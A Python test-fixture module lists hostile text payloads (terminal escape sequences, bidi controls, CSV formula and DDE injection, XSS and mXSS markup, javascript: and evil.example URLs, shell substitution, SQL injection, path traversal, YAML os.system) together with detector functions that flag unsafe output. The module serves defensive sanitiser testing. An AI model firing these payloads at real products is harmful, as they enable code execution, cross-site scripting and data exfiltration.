"""Hostile text payloads and output oracles (stdlib only).

PAYLOADS     strings a feed may carry in any field.
PRESERVE     legitimate text that a careless sanitiser destroys; it must survive byte for byte.
*_findings   oracles: give them what the product printed/exported/served; [] means safe.
"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

MARK = "ZQXMARK"  # unique token, so that tests can find a payload again in any output

PAYLOADS: list[tuple[str, str, str]] = [
    # id, category, text
    ("ansi_red", "terminal", f"{MARK}\x1b[31mred\x1b[0m"),
    ("ansi_clear", "terminal", f"{MARK}\x1b[2J\x1b[H$ nothing flagged"),
    ("ansi_up_overwrite", "terminal", f"{MARK}\x1b[3A\x1b[2K[dismissed]"),
    ("osc_title", "terminal", f"\x1b]0;{MARK}\x07"),
    ("osc8_link", "terminal", f"\x1b]8;;https://evil.example/\x1b\\{MARK}\x1b]8;;\x1b\\"),
    ("osc52_clipboard", "terminal", f"\x1b]52;c;Y3VybCBldmlsfHNo\x07{MARK}"),
    ("dcs_query", "terminal", f"\x1bP$q q\x1b\\{MARK}"),
    ("dsr_query", "terminal", f"\x1b[6n\x1b[c{MARK}"),
    ("c1_csi", "terminal", f"\x9b31m{MARK}"),
    ("c1_osc", "terminal", f"\x9d0;{MARK}\x9c"),
    ("backspace", "terminal", f"{MARK} safe\x08\x08\x08\x08evil"),
    ("carriage_return", "terminal", f"{MARK} real\r{MARK} fake"),
    ("bell_flood", "terminal", MARK + "\x07" * 200),
    ("del_chars", "terminal", MARK + "\x7f" * 20),
    ("nul", "terminal", f"{MARK}\x00after-nul"),
    ("log_forge", "log", f"{MARK}\n2026-01-01 00:00:00 INFO tick complete flagged=0"),
    ("log_forge_crlf", "log", f"{MARK}\r\nWARNING operator accepted item 1"),
    ("line_sep", "log", f"{MARK}\u2028fake line\u2029fake para\x85fake nel\x0bvt\x0cff"),
    ("bidi_rlo", "bidi", f"{MARK}\u202egpj.exe"),
    ("bidi_lri_unbalanced", "bidi", f"{MARK}\u2066\u2066\u2066 not closed"),
    ("bidi_trojan", "bidi", f"{MARK} /*\u202e }} \u2066if (ok)\u2069 \u2066 begin*/"),
    ("tag_chars", "invisible", MARK + "".join(chr(0xE0000 + ord(c)) for c in "hidden")),
    ("zero_width_split", "invisible", f"as\u200bsass\u2060ina\ufefftion {MARK}"),
    ("homoglyph", "invisible", f"\u0430ss\u0430ssin\u0430tion pl\u043et {MARK}"),
    ("zalgo", "invisible", MARK + "a" + "\u0301" * 5000),
    ("soft_hyphen", "invisible", f"as\u00adsas\u00adsin {MARK}"),
    ("interlinear", "invisible", f"{MARK}\ufff9x\ufffay\ufffb"),
    ("noncharacter", "invisible", f"{MARK}\ufdd0\ufffe\U0001ffff"),
    ("formula_eq", "csv", f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")'),
    ("formula_dde", "csv", f"=cmd|' /C calc'!'{MARK}'"),
    ("formula_plus", "csv", f"+1+cmd|' /C calc'!{MARK}"),
    ("formula_minus", "csv", f"-2+3+cmd|' /C calc'!{MARK}"),
    ("formula_at", "csv", f"@SUM(1+1)*cmd|' /C calc'!{MARK}"),
    ("formula_tab", "csv", f"\t=1+1 {MARK}"),
    ("formula_cr", "csv", f"\r=1+1 {MARK}"),
    ("formula_lf", "csv", f"\n=1+1 {MARK}"),
    ("formula_space", "csv", f"   =1+1 {MARK}"),
    ("formula_fullwidth", "csv", f"\uff1d1+1 {MARK}"),
    ("formula_quote_break", "csv", f'x",=1+1,"{MARK}'),
    ("formula_semicolon", "csv", f"x;=1+1;{MARK}"),
    ("formula_bom", "csv", f"\ufeff=1+1 {MARK}"),
    ("html_script", "html", f"<script>{MARK}</script>"),
    ("html_img", "html", f"<img src=x onerror={MARK}>"),
    ("html_attr_break", "html", f'"><svg onload={MARK}>'),
    ("html_attr_break_single", "html", f"' onmouseover='{MARK}"),
    ("html_form_action", "html", f'<form action="javascript:{MARK}"><input type=submit></form>'),
    ("html_video_poster", "html", f'<video poster="javascript:{MARK}"></video>'),
    ("html_entity_js", "html", f'<a href="JaVaScRiPt&#58;{MARK}">x</a>'),
    ("html_entity_js2", "html", f'<a href="&#x6A;avascript:{MARK}">x</a>'),
    ("html_tab_js", "html", f'<a href="java\tscript:{MARK}">x</a>'),
    ("html_xlink", "html", f'<svg><a xlink:href="javascript:{MARK}"><text>x</text></a></svg>'),
    ("html_srcdoc", "html", f'<iframe srcdoc="&lt;script&gt;{MARK}&lt;/script&gt;"></iframe>'),
    ("html_formaction", "html", f'<button formaction="javascript:{MARK}">x</button>'),
    ("html_meta", "html", f'<meta http-equiv=refresh content="0;url=https://evil.example/{MARK}">'),
    ("html_base", "html", f'<base href="https://evil.example/{MARK}/">'),
    ("html_style", "html", f"<style>body{{background:url(https://evil.example/{MARK})}}</style>"),
    ("html_mxss", "html", f'<noscript><p title="</noscript><img src=x onerror={MARK}>">'),
    (
        "html_mathmxss",
        "html",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}&gt;">',
    ),
    ("html_comment_split", "html", f"<scr<!---->ipt>{MARK}</scr<!---->ipt>"),
    ("html_plaintext", "html", f"<plaintext>{MARK}"),
    ("html_textarea", "html", f"</textarea></title><script>{MARK}</script>"),
    ("html_beacon", "html", f'<img src="https://evil.example/pixel?{MARK}">'),
    ("url_js", "url", f"javascript:{MARK}"),
    ("url_data", "url", f"data:text/html,<script>{MARK}</script>"),
    ("url_vbscript", "url", f"vbscript:{MARK}"),
    ("url_file", "url", f"file:///etc/passwd#{MARK}"),
    ("url_ws_js", "url", f" \x01java\nscript:{MARK}"),
    ("url_userinfo", "url", f"https://reuters.com@evil.example/{MARK}"),
    ("url_idn", "url", f"https://r\u0435uters.com/{MARK}"),
    ("url_backslash", "url", f"https:\\\\evil.example\\{MARK}"),
    ("shell_subst", "shell", f"$(touch /tmp/{MARK}) `id` ; id | id && id"),
    ("shell_dash", "shell", f"--help {MARK}"),
    ("format_percent", "format", f"%s%n%(x)s {MARK}"),
    ("format_brace", "format", f"{{0.__class__.__mro__}} {{}} {MARK}"),
    ("jinja", "format", f"{{{{7*7}}}}{{% raw %}} {MARK}"),
    ("sql_quote", "sql", f"'; DROP TABLE events;-- {MARK}"),
    ("sql_fts", "sql", f'" NEAR/0 * {MARK} AND (('),
    ("path_traversal", "path", f"../../../../etc/passwd {MARK}"),
    ("path_nul", "path", f"ok.txt\x00.jpg {MARK}"),
    ("yaml_tag", "format", f"!!python/object/apply:os.system ['touch {MARK}']"),
    ("markdown_link", "markdown", f"[click](javascript:{MARK}) ![x](https://evil.example/p.png)"),
    ("markdown_heading", "markdown", f"\n# {MARK} forged heading\n| a | b |"),
    ("json_break", "json", f'","label":"dismissed","x":"{MARK}'),
    ("jsonl_break", "json", f'{MARK}\n{{"type":"TriageDecided","label":"dismissed"}}'),
    ("surrogate_pair_split", "unicode", f"{MARK}\U0001f4a3" + "\U0001f468\u200d\U0001f469\u200d\U0001f467"),
    ("long_word", "size", MARK + "A" * 200_000),
    ("many_words", "size", MARK + " word" * 50_000),
]

# Text a sanitiser must NOT change: Persian needs ZWNJ (U+200C); Arabic/Hebrew are right to left;
# emoji families need ZWJ; names carry combining marks.
PRESERVE: list[tuple[str, str]] = [
    (
        "fa_zwnj",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u06af\u0632\u0627\u0631\u0634 \u0628\u062f\u0647\u0645",
    ),
    ("ar", "\u0645\u062e\u0637\u0637 \u0627\u063a\u062a\u064a\u0627\u0644 \u0645\u0632\u0639\u0648\u0645"),
    ("he", "\u05ea\u05d7\u05e7\u05d9\u05e8\u05d4 \u05d1\u05e4\u05e8\u05d5"),
    ("az", "Az\u0259rbaycan t\u0259hl\u00fck\u0259sizlik xidm\u0259ti"),
    ("es", "La fiscal\u00eda del Per\u00fa investig\u00f3 el complot"),
    ("emoji_zwj", "\U0001f468\u200d\U0001f469\u200d\U0001f467 family"),
    ("hi_combining", "\u0939\u093f\u0928\u094d\u0926\u0940"),
    ("math", "1 < 2 && 3 > 2"),
    ("apostrophe", "Iran\u2019s \u2018plot\u2019 \u2013 officials"),
    ("leading_minus_number", "-5 degrees in Tehran"),
]

_BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


def terminal_findings(text: str, *, allow_newline: bool = True) -> list[str]:
    """Characters that let feed text drive a terminal or reorder what the reader sees.

    Balanced isolates U+2068..U+2069 the product itself wraps around text are allowed.
    """
    out = []
    depth = 0
    for i, ch in enumerate(text):
        cp = ord(ch)
        if ch == "\n" and allow_newline:
            if depth:
                out.append(f"{i}: isolate open at end of line")
                depth = 0
            continue
        if cp < 0x20 or cp == 0x7F or 0x80 <= cp <= 0x9F:
            out.append(f"{i}: control U+{cp:04X}")
        elif ch == "\u2068":
            depth += 1
        elif ch == "\u2069":
            depth -= 1
            if depth < 0:
                out.append(f"{i}: stray PDI")
                depth = 0
        elif ch in _BIDI:
            out.append(f"{i}: bidi control U+{cp:04X}")
        elif ch in "\u2028\u2029":
            out.append(f"{i}: line separator U+{cp:04X}")
        elif 0xE0000 <= cp <= 0xE007F:
            out.append(f"{i}: tag character U+{cp:05X}")
    if depth:
        out.append("isolate left open at end")
    return out


_FORMULA = set("=+-@|%\uff1d\uff0b\uff0d\uff20\u2212")


def csv_findings(data: str, *, delimiter: str = ",") -> list[str]:
    """Cells a spreadsheet would evaluate. Plain numbers (-5, +3.2, 1e5) are allowed."""
    out = []
    for r, row in enumerate(csv.reader(io.StringIO(data), delimiter=delimiter)):
        for c, cell in enumerate(row):
            if re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?", cell):
                continue
            bare = cell.lstrip(" \t\r\n\ufeff\x00\u00a0")
            if bare[:1] in _FORMULA and bare[:1]:
                out.append(f"row {r} col {c}: starts {cell[:12]!r}")
            if "\x00" in cell:
                out.append(f"row {r} col {c}: NUL")
            # other-delimiter smuggling: a German-locale Excel splits on ';', a TSV paste on tab
            for alt in ";\t":
                if alt != delimiter and any(p.lstrip()[:1] in _FORMULA and p.lstrip()[:1] for p in cell.split(alt)[1:]):
                    out.append(f"row {r} col {c}: formula after {alt!r}")
    return out


_URL_ATTRS = {
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "xlink:href",
    "background",
    "cite",
    "data",
    "longdesc",
    "ping",
    "srcset",
    "manifest",
    "codebase",
    "usemap",
    "profile",
    "icon",
    "archive",
    "classid",
}
_BAD_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "svg",
    "math",
    "form",
    "plaintext",
    "template",
    "noscript",
    "frame",
    "frameset",
    "applet",
    "xmp",
}


class _Html(HTMLParser):
    def __init__(self, own_scripts: int, own_tags: frozenset[str]):
        super().__init__(convert_charrefs=True)
        self.out: list[str] = []
        self.scripts = 0
        self.own_scripts = own_scripts
        self.own_tags = own_tags

    def handle_starttag(self, tag, attrs):
        t = tag.lower()
        if MARK.lower() in t:
            self.out.append(f"payload became tag <{t}>")
        if t == "script":
            self.scripts += 1
        if t in _BAD_TAGS and t not in self.own_tags and not (t == "script" and self.scripts <= self.own_scripts):
            self.out.append(f"<{t}> element")
        for k, v in attrs:
            k, v = k.lower(), v or ""
            if k.startswith("on"):
                self.out.append(f"event handler {k} on <{t}>")
            if k == "srcdoc":
                self.out.append("srcdoc attribute")
            if k == "style" and ("url(" in v.lower() or "expression" in v.lower()):
                self.out.append("style with url()")
            if k in _URL_ATTRS:
                bare = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028\u2029\ufeff]", "", v).lower()
                m = re.match(r"([a-z][a-z0-9+.\-]*):", bare)
                if m and m.group(1) not in ("http", "https"):
                    self.out.append(f"{k}= scheme {m.group(1)}: on <{t}>")
                if t in ("img", "video", "audio", "source", "track", "link", "script") and m:
                    self.out.append(f"remote load {k}={v[:40]!r}")

    handle_startendtag = handle_starttag


def html_findings(
    page: str, *, own_scripts: int = 0, own_tags: tuple[str, ...] = ("meta", "style", "form", "link")
) -> list[str]:
    """Active content in a served page. Tell it how many <script> and which tags are the product's own.

    A <form>/<meta>/<style> of the product is fine, but feed text must never become an element,
    an event handler, a non-http(s) URL, or a remote load.
    """
    p = _Html(own_scripts, frozenset(own_tags))
    p.feed(page)
    p.close()
    return p.out


def log_findings(text: str, n_records: int) -> list[str]:
    lines = [ln for ln in re.split(r"\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", text) if ln]
    return [] if len(lines) == n_records else [f"{n_records} records became {len(lines)} lines"]
